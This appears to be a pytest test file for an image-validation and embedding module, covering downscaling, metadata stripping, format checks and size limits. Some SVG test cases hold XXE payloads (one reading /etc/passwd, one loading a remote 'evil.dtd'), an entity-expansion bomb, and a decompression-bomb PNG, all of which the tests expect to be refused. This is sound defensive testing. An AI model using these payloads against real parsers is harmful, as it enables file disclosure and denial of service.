"""Images checked and embedded by builder.images, with real files written by Pillow (no mocks)."""

from __future__ import annotations

import base64
import io
import os
import struct
import warnings
import zlib
from pathlib import Path

import pytest
from PIL import ExifTags, Image, ImageChops, ImageCms

from builder import images
from builder.images import MAX_EDGE, embed_image, inspect_image

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>'


def decoded(uri: str) -> tuple[str, bytes]:
    """(MIME type, bytes) of a data: URI."""
    head, payload = uri.split(",", 1)
    assert head.startswith("data:") and head.endswith(";base64")
    return head[len("data:") : -len(";base64")], base64.b64decode(payload)


def embedded_image(path: Path) -> Image.Image:
    return Image.open(io.BytesIO(decoded(embed_image(path))[1]))


def noise(size: tuple[int, int], mode: str = "RGB", shift: int = 0) -> Image.Image:
    """Random pixels, each channel in 0..255 >> shift: what compresses worst."""
    img = Image.frombytes(mode, size, os.urandom(size[0] * size[1] * len(mode)))
    return img.point(lambda v: v >> shift) if shift else img


def png_header_only(path: Path, width: int, height: int) -> Path:
    """A PNG that claims width × height RGB pixels and holds none."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IEND", b""))
    return path


def refused(path: Path) -> str:
    message = inspect_image(path)
    assert message is not None, f"{path.name} was accepted"
    assert str(path.parent) not in message and path.name not in message  # the caller names the file
    return message


@pytest.fixture(scope="module")
def camera_photo(tmp_path_factory) -> Path:
    """A 6000 × 4000 JPEG at quality 98 of the size a camera writes: a gradient with sensor-like noise."""
    size = (6000, 4000)
    gradient = Image.linear_gradient("L").resize(size)
    scene = Image.merge("RGB", (gradient, gradient.rotate(180), Image.new("L", size, 128)))
    path = tmp_path_factory.mktemp("photo") / "site-visit.jpg"
    ImageChops.add(scene, noise(size, shift=4)).save(path, quality=98)
    assert path.stat().st_size > 8 * 1024 * 1024
    return path


@pytest.fixture(autouse=True)
def fresh_cache():
    images._embedded.cache_clear()


def test_camera_photo_is_downscaled_to_an_embeddable_jpeg(camera_photo):
    assert inspect_image(camera_photo) is None
    uri = embed_image(camera_photo)
    assert len(uri) < 1.5 * 1024 * 1024
    mime, data = decoded(uri)
    img = Image.open(io.BytesIO(data))
    assert (mime, img.format, img.size) == ("image/jpeg", "JPEG", (MAX_EDGE, 1600))


def test_exif_orientation_is_applied(tmp_path):
    sideways = Image.new("RGB", (400, 200), "blue")
    sideways.paste("red", (0, 0, 200, 200))  # left half red: upright, it is the top half
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # stored turned 90° anticlockwise, as a phone held upright does
    path = tmp_path / "upright.jpg"
    sideways.save(path, exif=exif)
    assert inspect_image(path) is None
    img = embedded_image(path).convert("RGB")
    assert img.size == (200, 400)
    top, bottom = img.getpixel((100, 50)), img.getpixel((100, 350))
    assert top[0] > 200 > top[2] and bottom[2] > 200 > bottom[0]


def test_location_and_other_metadata_are_removed(tmp_path):
    exif = Image.Exif()
    exif[ExifTags.Base.Software] = "SecretCam 1.0"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (22.0, 16.0, 48.0)
    path = tmp_path / "small-photo.jpg"
    noise((300, 200)).save(path, exif=exif, xmp=b"<x:xmpmeta>SecretXMP</x:xmpmeta>", comment=b"SecretComment")
    assert inspect_image(path) is None
    data = decoded(embed_image(path))[1]
    for secret in (b"Exif", b"Secret", b"GPS"):
        assert secret not in data
    img = Image.open(io.BytesIO(data))
    assert not img.getexif() and not {"exif", "xmp", "comment"} & img.info.keys()


def test_an_rgb_colour_profile_is_kept(tmp_path):
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    path = tmp_path / "wide.jpg"
    Image.new("RGB", (3000, 100), "green").save(path, icc_profile=srgb)
    assert inspect_image(path) is None
    assert embedded_image(path).info.get("icc_profile") == srgb


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("logo.png", b"not an image, just text\n", "is not a PNG image (its content is not a PNG or JPEG image)"),
        ("logo.jpg", b"", "is not a JPEG image (its content is not a PNG or JPEG image)"),
        ("logo.gif", b"GIF89a", "is not a supported image; use a .png, .jpg, .jpeg or .svg file"),
    ],
)
def test_a_file_that_is_not_an_image_is_refused(tmp_path, name, content, expected):
    path = tmp_path / name
    path.write_bytes(content)
    assert refused(path) == expected


def test_a_png_named_jpg_is_refused(tmp_path):
    path = tmp_path / "logo.jpg"
    Image.new("RGB", (10, 10)).save(path, format="PNG")
    assert refused(path) == "is a PNG image but its name ends in .jpg"


@pytest.mark.parametrize(("name", "image"), [("cut.jpg", noise((800, 600))), ("cut.png", noise((300, 300)))])
def test_a_truncated_image_is_refused(tmp_path, name, image):
    whole = io.BytesIO()
    image.save(whole, format=Image.registered_extensions()[Path(name).suffix])
    path = tmp_path / name
    path.write_bytes(whole.getvalue()[: len(whole.getvalue()) * 6 // 10])
    assert refused(path).startswith("is a damaged or incomplete")


def test_a_truncated_camera_photo_is_refused(tmp_path, camera_photo):
    path = tmp_path / "cut-photo.jpg"
    path.write_bytes(camera_photo.read_bytes()[:8_000_000])
    assert refused(path) == "is a damaged or incomplete JPEG image"


def test_a_decompression_bomb_is_refused_from_its_header(tmp_path):
    path = png_header_only(tmp_path / "bomb.png", 20_000, 20_000)
    # the file has a header and no pixel data: decoding it would be refused as damaged instead
    assert refused(path) == "has more than 80,000,000 pixels"


def test_the_pixel_limit_is_exact_and_silent(tmp_path):
    assert refused(png_header_only(tmp_path / "over.png", 10_000, 8_001)) == "has more than 80,000,000 pixels"
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # nor does Pillow warn about a size we allow
        # at the limit the header is accepted; the missing pixels are then found when decoding
        assert refused(png_header_only(tmp_path / "at.png", 10_000, 8_000)) == "is a damaged or incomplete PNG image"


def test_files_too_large_are_refused(tmp_path):
    big = tmp_path / "huge.jpg"
    with big.open("wb") as f:
        f.truncate(images.MAX_IMAGE_BYTES + 1)  # sparse: no need to write 40 MB
    assert refused(big) == "is larger than 40 MB"
    svg = tmp_path / "huge.svg"
    svg.write_bytes(SVG[:-6] + b" " * images.MAX_SVG_BYTES + b"</svg>")
    assert refused(svg) == "is larger than 2 MB, the most for an SVG image"


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (
            b'<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            b'<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>',
            "declares XML entities in its DOCTYPE, which an image may not",
        ),
        (
            b'<!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
            b'<svg xmlns="http://www.w3.org/2000/svg"><text>&lol2;</text></svg>',
            "declares XML entities in its DOCTYPE, which an image may not",
        ),
        (
            b'<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://example.com/evil.dtd"> %remote;]>'
            b'<svg xmlns="http://www.w3.org/2000/svg"/>',
            "declares XML entities in its DOCTYPE, which an image may not",
        ),
        (
            b'<!DOCTYPE svg SYSTEM "http://example.com/evil.dtd">'
            b'<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>',
            "uses XML entities (&name;), which an image may not",
        ),
        (b"<svg><rect/></svg>", 'is not a valid SVG document (its <svg> element lacks xmlns="http://www.w3.org/2000/svg")'),
        (b'<html xmlns="http://www.w3.org/1999/xhtml"/>', "is not an SVG image (its root element is <html>)"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'>", "is not a valid SVG document (Premature end of data"),
    ],
)
def test_an_unsafe_or_invalid_svg_is_refused(tmp_path, content, expected):
    path = tmp_path / "logo.svg"
    path.write_bytes(content)
    assert refused(path).startswith(expected)


@pytest.mark.parametrize(
    ("name", "content", "mime"),
    [
        ("logo.svg", SVG, "image/svg+xml"),
        (
            "doctype.svg",
            b'<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
            b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n' + SVG,
            "image/svg+xml",
        ),
    ],
)
def test_a_valid_svg_is_embedded_byte_for_byte(tmp_path, name, content, mime):
    path = tmp_path / name
    path.write_bytes(content)
    assert inspect_image(path) is None
    assert decoded(embed_image(path)) == (mime, content)


@pytest.mark.parametrize(("name", "mime"), [("logo.png", "image/png"), ("photo.jpeg", "image/jpeg")])
def test_a_small_raster_image_is_embedded_byte_for_byte(tmp_path, name, mime):
    path = tmp_path / name
    noise((600, 400), shift=2).save(path)
    assert inspect_image(path) is None
    assert decoded(embed_image(path)) == (mime, path.read_bytes())


def test_embedding_is_deterministic_and_done_once(camera_photo):
    assert inspect_image(camera_photo) is None  # decodes and encodes the photo: embed_image reuses that
    first = embed_image(camera_photo)
    assert embed_image(camera_photo) == first
    assert images._embedded.cache_info().misses == 1
    images._embedded.cache_clear()
    assert embed_image(camera_photo) == first


@pytest.mark.parametrize(
    ("image", "mode", "pixel"),
    [
        (Image.new("CMYK", (3000, 100), (0, 255, 255, 0)), "RGB", (255, 0, 0)),
        (Image.new("I;16", (3000, 100), 65535), "L", 255),
        (Image.new("I;16", (3000, 100), 32896), "L", 128),
        (Image.new("1", (3000, 100), 1), "L", 255),
    ],
)
def test_other_modes_are_converted_when_reencoding(tmp_path, image, mode, pixel):
    path = tmp_path / ("wide.jpg" if image.mode == "CMYK" else "wide.png")
    image.save(path)
    assert inspect_image(path) is None
    img = embedded_image(path)
    assert (img.mode, img.width) == (mode, MAX_EDGE)
    got = img.getpixel((10, 10))
    assert all(abs(a - b) < 8 for a, b in zip(*(v if isinstance(v, tuple) else (v,) for v in (got, pixel))))


def test_a_palette_png_keeps_its_transparency(tmp_path):
    image = Image.new("P", (3000, 100), 1)
    image.putpalette([0, 0, 0, 255, 0, 0])
    path = tmp_path / "logo.png"
    image.paste(0, (0, 0, 1500, 100))  # left half index 0: transparent
    image.save(path, transparency=0)
    assert inspect_image(path) is None
    img = embedded_image(path)
    assert (img.format, img.mode, img.size) == ("PNG", "RGBA", (MAX_EDGE, 80))
    assert img.getpixel((10, 40))[3] == 0 and img.getpixel((2300, 40)) == (255, 0, 0, 255)


def test_a_photographic_png_becomes_a_jpeg(tmp_path):
    path = tmp_path / "photo.png"
    noise((1400, 1100)).save(path, compress_level=1)
    assert inspect_image(path) is None
    img = embedded_image(path)
    assert (img.format, img.size) == ("JPEG", (1400, 1100))


def test_a_photographic_png_with_transparency_shrinks_until_it_fits(tmp_path):
    path = tmp_path / "cutout.png"
    noise((1400, 1100), "RGBA").save(path, compress_level=1)
    assert inspect_image(path) is None
    mime, data = decoded(embed_image(path))
    img = Image.open(io.BytesIO(data))
    assert (mime, img.mode) == ("image/png", "RGBA")
    assert len(data) <= images._EMBED_BUDGET and img.width < 1400
